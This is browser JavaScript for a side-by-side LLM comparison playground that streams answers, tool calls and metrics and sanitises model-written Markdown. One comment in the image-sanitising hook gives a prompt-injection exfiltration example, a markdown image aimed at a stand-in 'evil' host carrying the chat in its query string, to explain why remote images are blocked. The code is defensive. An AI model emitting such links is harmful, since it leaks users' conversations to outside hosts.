/* Playground: sends runs over the WebSocket (/ws/playground/) and paints every column
   as it streams. Hand-written, no build. Server messages: comparison, tick,
   column_done, turn_done, error. The post-run panel (diff, vote, raw) is htmx. */
(function () {
  "use strict";

  const form = document.getElementById("pg-setup");
  if (!form) return;
  const grid = document.getElementById("pg-grid");
  const rows = document.getElementById("pg-column-rows");
  const runButton = document.getElementById("pg-run");
  const stopButton = document.getElementById("pg-stop");
  const status = document.getElementById("pg-status");
  const followup = document.getElementById("pg-followup");
  const panel = document.getElementById("pg-panel");
  const prefill = JSON.parse(document.getElementById("pg-prefill").textContent);
  const MIN_COLUMNS = 2, MAX_COLUMNS = 6;

  let socket = null;
  let comparisonId = form.dataset.comparison ? Number(form.dataset.comparison) : null;
  let running = false;
  let blind = false;
  let pendingMessage = null;

  // --- the column editor ---------------------------------------------------------------

  function refreshRowButtons() {
    const count = rows.children.length;
    rows.querySelectorAll(".pg-remove").forEach((b) => { b.disabled = count <= MIN_COLUMNS; });
    document.getElementById("pg-add-column").disabled = count >= MAX_COLUMNS;
  }

  document.getElementById("pg-add-column").addEventListener("click", () => {
    if (rows.children.length >= MAX_COLUMNS) return;
    const template = document.getElementById("pg-column-template");
    const row = template.content.firstElementChild.cloneNode(true);
    const last = rows.lastElementChild;
    if (last) {  // a new column starts as a copy of the last one: change one thing
      row.querySelectorAll("select, input").forEach((el) => {
        if (el.type === "checkbox") {  // an MCP server: attached in the new column too
          const twin = last.querySelector(`[name="${el.name}"][value="${CSS.escape(el.value)}"]`);
          if (twin) el.checked = twin.checked;
          return;
        }
        const twin = last.querySelector(`[name="${el.name}"]`);
        if (twin) el.value = twin.value;
      });
    }
    rows.appendChild(row);
    refreshRowButtons();
  });

  rows.addEventListener("click", (event) => {
    const button = event.target.closest(".pg-remove");
    if (button && rows.children.length > MIN_COLUMNS) {
      button.closest("li").remove();
      refreshRowButtons();
    }
  });
  refreshRowButtons();

  // Blind mode numbers the rows: the letters belong to the shuffled result columns.
  const blindBox = form.querySelector('input[name="blind"]');
  blindBox.addEventListener("change", () => rows.classList.toggle("blind", blindBox.checked));
  rows.classList.toggle("blind", blindBox.checked);

  // --- reading the form ------------------------------------------------------------------

  function paramsFrom(scope) {
    const params = {};
    for (const name of ["temperature", "max_tokens", "reasoning_effort"]) {
      const el = scope.querySelector(`[name="${name}"]`);
      if (el && el.value !== "") params[name] = name === "reasoning_effort" ? el.value : Number(el.value);
    }
    return params;
  }

  // --- attachments: images and PDFs on the prompt, sent inline as base64 ---------------

  const fileInput = form.querySelector('input[name="attach"]');
  const fileList = document.getElementById("pg-files");
  let kept = (prefill.messages.length && prefill.messages[prefill.messages.length - 1].attachments) || [];

  function showFiles() {
    fileList.innerHTML = "";
    const names = kept.map((f) => f.name).concat(Array.from(fileInput.files).map((f) => f.name));
    names.forEach((name, i) => {
      const chip = document.createElement("span");
      chip.className = "pill pg-file";
      chip.textContent = name;
      if (i < kept.length) {
        const drop = document.createElement("button");
        drop.type = "button"; drop.textContent = "✕"; drop.setAttribute("aria-label", "Remove " + name);
        drop.addEventListener("click", () => { kept.splice(i, 1); showFiles(); });
        chip.append(drop);
      }
      fileList.append(chip);
    });
  }
  fileInput.addEventListener("change", showFiles);
  showFiles();

  function readFile(file) {
    return new Promise((resolve, reject) => {
      const reader = new FileReader();
      reader.onload = () => resolve({
        media_type: file.type, name: file.name, data: String(reader.result).split(",", 2)[1] || "",
      });
      reader.onerror = () => reject(new Error("could not read " + file.name));
      reader.readAsDataURL(file);
    });
  }

  async function readAttachments() {
    const fresh = await Promise.all(Array.from(fileInput.files).map(readFile));
    return kept.concat(fresh);
  }

  // --- the earlier conversation: shown compactly, edited as JSON ---------------------------

  // A replayed request's turns before the prompt: text, an assistant's tool calls and the
  // tool results answering them, each as its own block; the JSON below is what is sent.
  const earlierBox = form.querySelector('textarea[name="earlier"]');
  const earlierView = document.getElementById("pg-earlier-view");
  const promptBox = form.querySelector('textarea[name="prompt"]');
  const promptPlaceholder = promptBox.placeholder;

  function earlierMessages() {
    const text = (earlierBox.value || "").trim();
    let messages = [];
    try { messages = text ? JSON.parse(text) : []; } catch (e) { throw new Error("Earlier messages: not valid JSON (" + e.message + ")"); }
    if (!Array.isArray(messages)) throw new Error("Earlier messages: a JSON list of messages");
    return messages;
  }

  const endsInToolResults = (messages) => Boolean(messages.length && messages[messages.length - 1].role === "tool");

  function block(className, text, id) {
    const el = document.createElement("div");
    el.className = className;
    el.textContent = text;
    if (id) {
      const tag = document.createElement("span");
      tag.className = "pg-id";
      tag.textContent = " #" + id;
      el.append(tag);
    }
    return el;
  }

  function turnItem(role, blocks) {
    const item = document.createElement("li");
    item.className = "pg-turn " + role;
    const label = document.createElement("span");
    label.className = "pg-role";
    label.textContent = role;
    const body = document.createElement("div");
    body.append(...blocks);
    item.append(label, body);
    return item;
  }

  function showEarlier() {
    let messages;
    try { messages = earlierMessages(); } catch (e) {
      if (earlierView) earlierView.replaceChildren(turnItem("", [block("pg-bad", e.message)]));
      return;
    }
    promptBox.placeholder = endsInToolResults(messages)
      ? "Optional: the conversation ends in tool results, which the models answer. A message here is sent after them."
      : promptPlaceholder;
    if (!earlierView) return;
    const toolNames = {};  // call id -> the tool's name, for the results
    earlierView.replaceChildren(...messages.map((m) => {
      const blocks = [];
      const text = typeof m.content === "string" ? m.content : (m.content == null ? "" : JSON.stringify(m.content));
      if (m.role === "tool") {
        const name = toolNames[m.tool_call_id];
        blocks.push(block("pg-result" + (m.is_error ? " error" : ""), (name ? name + (m.is_error ? " failed: " : " returned: ") : "") + text, m.tool_call_id));
        return turnItem("tool", blocks);
      }
      if (text) blocks.push(block("pg-said", text));
      for (const f of m.attachments || []) blocks.push(block("pill pg-file", f.name || f.media_type || "file"));
      for (const call of m.tool_calls || []) {
        const fn = call.function || call;
        toolNames[call.id] = fn.name;
        const args = typeof fn.arguments === "string" ? fn.arguments : JSON.stringify(fn.arguments || {});
        blocks.push(block("pg-call", `${fn.name}(${args})`, call.id));
      }
      return turnItem(String(m.role || "?"), blocks);
    }));
  }
  earlierBox.addEventListener("input", showEarlier);
  showEarlier();

  function readSpec(attachments) {
    const data = new FormData(form);
    const messages = earlierMessages();
    const prompt = { role: "user", content: data.get("prompt") || "" };
    if (attachments && attachments.length) prompt.attachments = attachments;
    // After tool results the model answers them: an empty prompt is not a turn.
    if (prompt.content.trim() || prompt.attachments || !endsInToolResults(messages)) messages.push(prompt);
    let tools = [];
    const toolsText = (data.get("tools") || "").trim();
    if (toolsText) {
      try { tools = JSON.parse(toolsText); } catch (e) { throw new Error("Tools: not valid JSON (" + e.message + ")"); }
    }
    const columns = Array.from(rows.children).map((row) => ({
      route: row.querySelector('[name="route"]').value,
      dialect: row.querySelector('[name="dialect"]').value,
      params: paramsFrom(row),
      mcp_servers: Array.from(row.querySelectorAll('[name="mcp_servers"]:checked'), (box) => box.value),
    }));
    return {
      system: data.get("system") || "",
      messages: messages,
      params: paramsFrom(form.querySelector("[data-shared]")),
      tools: tools,
      columns: columns,
      blind: data.get("blind") === "on",
      replay_of: prefill.replay_of || "",
      // a versioned prompt's {{variables}}, one field each: the server fills them in
      variables: Object.fromEntries(
        Array.from(form.querySelectorAll("[data-variable]"), (field) => [field.dataset.variable, field.value])
      ),
    };
  }

  // --- the socket ------------------------------------------------------------------------

  function send(message) {
    if (socket && socket.readyState === WebSocket.OPEN) {
      socket.send(JSON.stringify(message));
      return;
    }
    pendingMessage = message;
    if (socket && socket.readyState === WebSocket.CONNECTING) return;
    const scheme = location.protocol === "https:" ? "wss://" : "ws://";
    socket = new WebSocket(scheme + location.host + form.dataset.ws);
    socket.addEventListener("open", () => {
      if (pendingMessage) { socket.send(JSON.stringify(pendingMessage)); pendingMessage = null; }
    });
    socket.addEventListener("message", (event) => handle(JSON.parse(event.data)));
    socket.addEventListener("close", (event) => {
      socket = null;
      if (event.code === 4403) say("Not allowed: sign in as staff.", true);
      else if (running) say("Connection lost.", true);
      setRunning(false);
    });
  }

  // While a run streams, the page shows the answers (scrolled down from the form): a
  // floating bar keeps the status and a Stop button at hand whenever the form's own
  // Stop is out of sight.
  const runbar = document.getElementById("pg-runbar");
  let stopInView = true;
  const showRunbar = () => { runbar.hidden = !(running && !stopInView); };
  if (window.IntersectionObserver) {
    // In sight: wholly below the sticky top bar (64 px) and above the window's bottom.
    new IntersectionObserver((entries) => {
      stopInView = entries[entries.length - 1].intersectionRatio > 0.99;
      showRunbar();
    }, { rootMargin: "-64px 0px 0px 0px", threshold: [0, 1] }).observe(stopButton);
  }

  function setRunning(on) {
    running = on;
    runButton.disabled = on;
    stopButton.disabled = !on;
    followup.querySelector("button").disabled = on;
    grid.classList.toggle("running", on);
    showRunbar();
  }

  function say(text, isError) {
    status.textContent = text;
    status.classList.toggle("error", Boolean(isError));
    runbar.firstElementChild.textContent = text;
  }

  // --- answers: Markdown, raw text, copy ----------------------------------------------------

  // Answers are Markdown, rendered in the browser as they stream (marked), then
  // sanitised (DOMPurify) so no HTML a model writes can run. Without either library
  // (blocked, failed to load) the raw text stays on show.
  const canRender = () => Boolean(window.marked && window.DOMPurify);
  const escapeHtml = (text) => text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
  // HTML a model writes is shown as the text it is, never parsed as markup.
  const markdown = window.marked ? new window.marked.Marked({
    gfm: true,
    renderer: { html: (token) => (token.block ? `<p class="pg-html">${escapeHtml(token.text)}</p>` : escapeHtml(token.text)) },
  }) : null;
  if (window.DOMPurify) {
    window.DOMPurify.addHook("afterSanitizeAttributes", (node) => {
      if (node.tagName === "A") { node.setAttribute("target", "_blank"); node.setAttribute("rel", "noopener noreferrer"); }
      // An answer loads no image from elsewhere: a prompt-injected ![](https://evil/?q=<chat>)
      // would carry the conversation out. Only data: images show; others become their text.
      if (node.tagName === "IMG" && !/^data:image\//i.test(node.getAttribute("src") || "")) {
        const where = node.getAttribute("src") || "";
        node.removeAttribute("src");
        node.removeAttribute("srcset");
        node.setAttribute("alt", `[image not loaded: ${node.getAttribute("alt") || ""} ${where}]`);
        node.classList.add("pg-blocked-img");
      }
    });
  }

  // An answer's text is one raw box and its rendered twin, or several pairs with the
  // MCP calls the gateway ran between them (text, call, text).
  function renderAnswer(answer) {
    const texts = answer.querySelectorAll(".pg-text");
    if (!texts.length) return;
    if (!canRender()) { answer.classList.add("raw", "no-md"); return; }
    texts.forEach((raw) => {
      const md = raw.nextElementSibling;
      if (md && md.classList.contains("pg-md")) md.innerHTML = window.DOMPurify.sanitize(markdown.parse(raw.textContent));
    });
  }

  // The whole answer's text (the pieces around MCP calls were joined by a blank line).
  const answerText = (answer) => Array.from(answer.querySelectorAll(".pg-text"), (el) => el.textContent).join("\n\n");
  const lastText = (answer) => { const all = answer.querySelectorAll(".pg-text"); return all[all.length - 1]; };

  // After a tool call: a box for the tool's result, sent with the next follow-up.
  function toolResultBox(col, call) {
    const label = document.createElement("label");
    label.className = "pg-tool-result";
    label.innerHTML = '<span></span><textarea rows="2"></textarea>';
    label.firstElementChild.textContent = `Result of ${call.name}`;
    const box = label.lastElementChild;
    box.dataset.callId = call.id;
    box.placeholder = "Type what the tool returned, then send it (Continue below)";
    return label;
  }

  function answerTools() {
    const template = document.getElementById("pg-answer-tools");
    return template.content.firstElementChild.cloneNode(true);
  }

  function copyText(text) {
    if (navigator.clipboard && window.isSecureContext) return navigator.clipboard.writeText(text);
    const box = document.createElement("textarea");  // plain http: the old way
    box.value = text;
    box.style.position = "fixed"; box.style.opacity = "0";
    document.body.appendChild(box);
    box.select();
    document.execCommand("copy");
    box.remove();
    return Promise.resolve();
  }

  grid.addEventListener("click", (event) => {
    const answer = event.target.closest(".pg-msg.assistant");
    if (!answer) return;
    if (event.target.closest(".pg-raw-toggle")) {
      const on = answer.classList.toggle("raw");
      const button = event.target.closest(".pg-raw-toggle");
      button.setAttribute("aria-pressed", String(on));
      button.textContent = on ? "Formatted" : "Raw";
    } else if (event.target.closest(".pg-copy")) {
      const button = event.target.closest(".pg-copy");
      copyText(answerText(answer)).then(
        () => { button.textContent = "Copied"; setTimeout(() => { button.textContent = "Copy"; }, 1500); },
        () => { button.textContent = "Copy failed"; });
    }
  });

  // --- keeping the newest turn in view ------------------------------------------------------

  // A transcript follows its stream while the reader is at its bottom; scrolling up to
  // read stops that until they come back down.
  const STICK_PX = 24;
  function atBottom(box) { return box.scrollHeight - box.scrollTop - box.clientHeight <= STICK_PX; }
  function follow(col, wasAtBottom) {
    const box = col.querySelector(".pg-transcript");
    if (wasAtBottom) box.scrollTop = box.scrollHeight;
  }

  // --- painting the columns --------------------------------------------------------------

  const smoothScroll = () => (window.matchMedia("(prefers-reduced-motion: reduce)").matches ? "auto" : "smooth");

  function columnEl(index) { return grid.querySelector(`.pg-col[data-index="${index}"]`); }

  function buildGrid(message) {
    grid.innerHTML = "";
    grid.dataset.columns = String(message.columns.length);
    const template = document.getElementById("pg-col-template");
    for (const head of message.columns) {
      const col = template.content.firstElementChild.cloneNode(true);
      col.dataset.index = head.index;
      col.querySelector(".pg-label").textContent = head.label;
      col.querySelector(".pg-route").textContent = head.route || "hidden until you vote";
      const dialect = col.querySelector(".pg-dialect");
      if (head.dialect) { dialect.textContent = head.dialect; dialect.classList.add(head.dialect); } else dialect.remove();
      if (message.blind) {  // speed, tokens and cost would name the model: after the vote
        const hidden = document.getElementById("pg-metrics-hidden").content.firstElementChild.cloneNode(true);
        col.querySelector(".pg-metrics").replaceWith(hidden);
      }
      grid.appendChild(col);
    }
  }

  function startTurn(message) {
    blind = message.blind;
    if (message.turn === 0 || !grid.querySelector(".pg-col")) buildGrid(message);
    let firstUser = null;
    for (const head of message.columns) {
      const col = columnEl(head.index);
      const transcript = col.querySelector(".pg-transcript");
      const user = document.createElement("div");
      user.className = "pg-msg user";
      user.textContent = (message.user_messages || [])[head.index] ?? message.user_message;
      for (const name of message.attachments || []) {
        const chip = document.createElement("span");
        chip.className = "pill pg-file";
        chip.textContent = name;
        user.append(" ", chip);
      }
      const answer = document.createElement("div");
      answer.className = "pg-msg assistant current";
      answer.append(answerTools());
      answer.insertAdjacentHTML("beforeend", '<div class="pg-text"></div><div class="pg-md"></div>');
      if (!canRender()) answer.classList.add("raw", "no-md");
      transcript.querySelectorAll(".assistant.current").forEach((el) => el.classList.remove("current"));
      transcript.append(user, answer);
      transcript.scrollTop = transcript.scrollHeight;
      col.dataset.state = "waiting";
      col.querySelector(".pg-state").textContent = "waiting";
      paintMetrics(col, {});
      firstUser = firstUser || user;
    }
    // The page itself: bring the new turn's row of columns into view (a follow-up is
    // sent from below the grid; a first run from the form above it, whose answers
    // would otherwise stream below the fold).
    if (message.turn > 0) {
      if (firstUser) firstUser.closest(".pg-col").scrollIntoView({ block: "nearest" });
    } else if (grid.getBoundingClientRect().top > window.innerHeight * 0.35) {
      grid.scrollIntoView({ block: "start", behavior: smoothScroll() });
    }
  }

  function fmtMs(v) {
    if (v === null || v === undefined) return "—";
    return v >= 1000 ? (v / 1000).toFixed(2) + " s" : Math.round(v) + " ms";
  }

  function fmtCost(v, unpriced) {
    if (blind) return "hidden";
    if (v === null || v === undefined) return "—";
    const n = Number(v);
    if (n === 0) return unpriced ? "unpriced" : "$0.00";  // no price known is not free
    return n < 0.01 ? "$" + n.toPrecision(2) : "$" + n.toFixed(2);  // to the cent from a cent (as the usd filter)
  }

  function paintMetrics(col, m) {
    const set = (name, text) => { const el = col.querySelector(`[data-metric="${name}"]`); if (el) el.textContent = text; };
    set("ttft_ms", fmtMs(m.ttft_ms));
    set("total_ms", fmtMs(m.total_ms));
    set("tokens_per_sec", m.tokens_per_sec == null ? "—" : String(m.tokens_per_sec));
    set("input_tokens", m.input_tokens ? String(m.input_tokens) : "—");
    set("output_tokens", m.output_tokens ? String(m.output_tokens) : "—");
    set("cost_usd", fmtCost(m.cost_usd, m.unpriced));
  }

  function current(col) { return col.querySelector(".assistant.current") || col.querySelector(".assistant:last-child"); }

  // The MCP tool calls the gateway ran for a column: server, tool, arguments, and the
  // result (or error) folded under each.
  function mcpCall(call) {
    const el = document.createElement("details");
    el.className = "pg-mcp" + (call.error ? " failed" : "");
    const summary = document.createElement("summary");
    summary.className = "mono";
    summary.innerHTML = '<span class="pill mcp">MCP</span> ';
    summary.append(`${call.server} · ${call.name}(${call.arguments || ""})`);
    const result = document.createElement("div");
    result.className = "pg-pre";
    result.textContent = call.error || call.output || "";
    el.append(summary, result);
    return el;
  }

  // While the column streams, the calls so far (the text comes after them).
  function paintMcpCalls(answer, calls) {
    answer.querySelectorAll(".pg-mcp").forEach((el) => el.remove());
    const anchor = answer.querySelector(".pg-text");
    for (const call of calls || []) anchor.before(mcpCall(call));
  }

  // The finished answer in order, as it is saved: its text with each call in its place.
  function paintParts(answer, parts) {
    answer.querySelectorAll(".pg-mcp, .pg-text, .pg-md").forEach((el) => el.remove());
    let after = answer.querySelector(".pg-answer-tools");
    const put = (el) => { after.after(el); after = el; };
    for (const part of parts) {
      if (part.type === "mcp") { put(mcpCall(part)); continue; }
      const raw = document.createElement("div");
      raw.className = "pg-text";
      raw.textContent = part.text || "";
      const md = document.createElement("div");
      md.className = "pg-md";
      put(raw);
      put(md);
    }
    renderAnswer(answer);
  }

  function paintTick(data) {
    const col = columnEl(data.index);
    if (!col) return;
    if (data.mcp_calls) paintMcpCalls(current(col), data.mcp_calls);
    if (data.text) {
      const box = col.querySelector(".pg-transcript");
      const stick = atBottom(box);
      const answer = current(col);
      lastText(answer).textContent += data.text;
      renderAnswer(answer);
      follow(col, stick);
    }
    col.dataset.state = data.state;
    col.querySelector(".pg-state").textContent = data.state;
    paintMetrics(col, data.metrics || {});
  }

  function paintDone(data) {
    const col = columnEl(data.index);
    if (!col) return;
    const box = col.querySelector(".pg-transcript");
    const stick = atBottom(box);
    const answer = current(col);
    if (data.parts) paintParts(answer, data.parts);
    else {
      answer.querySelector(".pg-text").textContent = data.text || "";
      renderAnswer(answer);
      paintMcpCalls(answer, data.mcp_calls);
    }
    if (data.thinking) {
      const details = document.createElement("details");
      details.className = "pg-thinking";
      details.innerHTML = '<summary>Thinking</summary><div class="pg-pre"></div>';
      details.lastElementChild.textContent = data.thinking;
      answer.querySelector(".pg-answer-tools").after(details);
    }
    for (const call of data.tool_calls || []) {
      const el = document.createElement("div");
      el.className = "pg-tool mono";
      el.textContent = `${call.name}(${call.arguments})`;
      answer.append(el);
      if (call.id) answer.append(toolResultBox(col, call));
    }
    if (data.error) {
      answer.classList.add("failed");
      const el = document.createElement("div");
      el.className = "pg-error";
      el.setAttribute("role", "alert");
      el.textContent = data.error;
      answer.append(el);
    }
    col.dataset.state = data.state;
    col.querySelector(".pg-state").textContent = data.state === "done" ? "done" : data.state;
    paintMetrics(col, data.metrics || {});
    follow(col, stick);
  }

  function handle(message) {
    switch (message.type) {
      case "comparison":
        comparisonId = message.id;
        form.dataset.comparison = message.id;
        panel.innerHTML = "";
        setRunning(true);
        say(message.turn === 0 ? "Streaming…" : `Turn ${message.turn + 1}: streaming…`);
        startTurn(message);
        break;
      case "tick":
        message.columns.forEach(paintTick);
        break;
      case "column_done":
        paintDone(message);
        break;
      case "turn_done":
        setRunning(false);
        say("Done.");
        followup.hidden = false;
        history.replaceState(null, "", `${form.dataset.panelUrl}?comparison=${message.id}`);
        if (window.htmx) {
          htmx.ajax("GET", `${form.dataset.panelUrl}${message.id}/panel/`, { target: "#pg-panel", swap: "innerHTML" });
          // the run is saved: "Recent comparisons" below lists it now, not "Nothing yet"
          if (document.getElementById("pg-history-list")) {
            htmx.ajax("GET", form.dataset.historyUrl, { target: "#pg-history-list", swap: "innerHTML" });
          }
        }
        break;
      case "error":
        say(message.message, true);
        if (!grid.querySelector('.pg-col[data-state="streaming"], .pg-col[data-state="waiting"]')) setRunning(false);
        break;
    }
  }

  // --- actions ---------------------------------------------------------------------------

  // The team the run is charged to (its console key's); none on the page: the default.
  const chosenTeam = () => (form.elements.team ? form.elements.team.value : null);

  form.addEventListener("submit", async (event) => {
    event.preventDefault();
    let spec;
    try { spec = readSpec(await readAttachments()); } catch (e) { say(e.message, true); return; }
    say("Connecting…");
    send({ action: "run", spec: spec, team: chosenTeam() });
  });

  const stop = () => { send({ action: "stop" }); say("Stopping…"); };
  stopButton.addEventListener("click", stop);
  document.getElementById("pg-runbar-stop").addEventListener("click", stop);

  // The follow-up: a message for every column and/or the tool results typed under the
  // last answers (a column whose boxes are all empty sends none).
  function typedToolResults() {
    const results = {};
    grid.querySelectorAll(".pg-col").forEach((col) => {
      const last = col.querySelector(".pg-msg.assistant:last-child");
      const boxes = last ? Array.from(last.querySelectorAll(".pg-tool-result textarea")) : [];
      if (boxes.some((b) => b.value.trim())) {
        results[col.dataset.index] = boxes.map((b) => ({ call_id: b.dataset.callId, content: b.value }));
      }
    });
    return results;
  }

  followup.addEventListener("submit", (event) => {
    event.preventDefault();
    const box = followup.querySelector("textarea");
    const toolResults = typedToolResults();
    if (!comparisonId || (!box.value.trim() && !Object.keys(toolResults).length)) return;
    send({ action: "continue", comparison: comparisonId, team: chosenTeam(), followup: { message: box.value, tool_results: toolResults } });
    box.value = "";
  });

  // --- saved prompts: the form's prompt, system, parameters and tools under a name ------

  const saveForm = document.getElementById("pg-save-prompt");
  saveForm.addEventListener("submit", async (event) => {
    event.preventDefault();
    const saved = document.getElementById("pg-saved");
    let spec;
    try { spec = readSpec(await readAttachments()); } catch (e) { say(e.message, true); return; }
    const body = new FormData(saveForm);  // the CSRF token and the name (form= inputs)
    body.set("spec", JSON.stringify({ system: spec.system, messages: spec.messages, params: spec.params, tools: spec.tools }));
    let html;
    try {
      const response = await fetch(saveForm.action, { method: "POST", body: body, headers: { "HX-Request": "true" }, credentials: "same-origin" });
      html = await response.text();
      if (!response.ok) throw new Error(html.slice(0, 200) || "status " + response.status);
    } catch (e) { say("Could not save the prompt: " + e.message, true); return; }
    const box = document.createElement("div");
    box.innerHTML = html;
    const fresh = box.querySelector("#pg-saved");
    if (fresh && saved) {
      saved.replaceWith(fresh);
      if (window.htmx) window.htmx.process(fresh);
    }
  });

  // Ctrl+Enter (Cmd+Enter on macOS) sends: a run from any box of the form, the
  // follow-up (with any tool results typed under the answers) from the follow-up box.
  const sendKey = (event) => event.key === "Enter" && (event.ctrlKey || event.metaKey) && !event.isComposing;
  form.addEventListener("keydown", (event) => {
    if (!sendKey(event)) return;
    event.preventDefault();
    if (!running) form.requestSubmit();
  });
  function sendFollowup(event) {
    if (!sendKey(event)) return;
    event.preventDefault();
    if (!running && !followup.hidden) followup.requestSubmit();
  }
  followup.addEventListener("keydown", sendFollowup);
  // The tool-result boxes under the answers go with the follow-up too.
  grid.addEventListener("keydown", (event) => { if (event.target.closest(".pg-tool-result")) sendFollowup(event); });

  // A reopened comparison: its saved answers are rendered like streamed ones.
  grid.querySelectorAll(".pg-msg.assistant").forEach(renderAnswer);
  grid.querySelectorAll(".pg-transcript").forEach((box) => { box.scrollTop = box.scrollHeight; });
})();
